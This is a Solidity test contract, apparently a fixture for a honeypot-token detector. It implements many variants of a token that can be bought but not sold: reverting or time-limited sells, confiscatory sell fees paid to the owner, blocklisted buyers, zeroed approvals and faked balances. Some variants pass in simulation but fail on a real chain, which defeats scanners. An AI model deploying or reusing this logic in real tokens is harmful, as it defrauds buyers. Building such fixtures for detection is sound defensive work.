// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {PlainToken} from "./PlainToken.sol";

interface Guard {
    function allows(address from, address to, address pair) external view returns (bool);
}

/// For tests: a token that can be bought and not be sold. How depends on its kind.
contract TrapToken is PlainToken {
    uint8 private immutable kind;
    address private pair;
    Guard private guard;
    bool private isOpen;
    mapping(address => bool) private isBlocked;
    mapping(address => uint256) private boughtAt;
    mapping(address => uint256) private shown;

    constructor(uint8 kind_) {
        kind = kind_;
    }

    function setPair(address pair_, Guard guard_) external {
        require(msg.sender == maker);
        pair = pair_;
        guard = guard_;
    }

    /// Its owner's switch, under a name of its own.
    function setOpen(bool open) external {
        require(msg.sender == maker);
        isOpen = open;
    }

    function balanceOf(address account) public view override returns (uint256) {
        if (kind == 17 && account == pair && msg.sender.code.length == 0) return 0;
        return held[account] + shown[account];
    }

    function approve(address spender, uint256 amount) public override returns (bool) {
        return super.approve(spender, kind == 11 ? 0 : amount);
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        if (kind == 12) return false;
        return super.transferFrom(from, to, amount);
    }

    function _handle(address from, address to, uint256 amount) internal override {
        if (from == pair) _buy(to, amount);
        if (kind == 2) require(!isBlocked[from], "blocked");
        if (to == pair) _sell(from, amount);
        uint256 fee = _fee(from, to, amount);
        if (fee > 0) _move(from, maker, fee);
        _move(from, to, amount - fee);
    }

    function _fee(address from, address to, uint256 amount) private view returns (uint256) {
        if (kind == 8 && from == pair) return amount;
        if (to != pair) return 0;
        return kind == 3 ? amount : kind == 4 ? (amount * 99) / 100 : 0;
    }

    function _buy(address buyer, uint256 amount) private {
        if (kind == 8) shown[buyer] += amount;
        boughtAt[buyer] = block.timestamp;
        isBlocked[buyer] = kind == 2;
    }

    function _sell(address from, uint256 amount) private view {
        if (kind == 1 || kind == 17) revert("not open");
        if (kind == 5) require(block.timestamp < boughtAt[from] + 1 hours, "too late");
        if (kind == 6) require(block.timestamp < boughtAt[from] + 7 days, "too late");
        if (kind == 7) require(isOpen, "trading is closed");
        if (kind == 9 || kind == 10) require(guard.allows(from, pair, pair), "guard");
        if (kind == 13) require(block.basefee == 0, "seen");
        if (kind == 14) require(tx.gasprice == 0, "seen");
        if (kind == 15) require(block.prevrandao == 0, "seen");
        if (kind == 16) require(amount <= 1e6, "too many");
    }
}
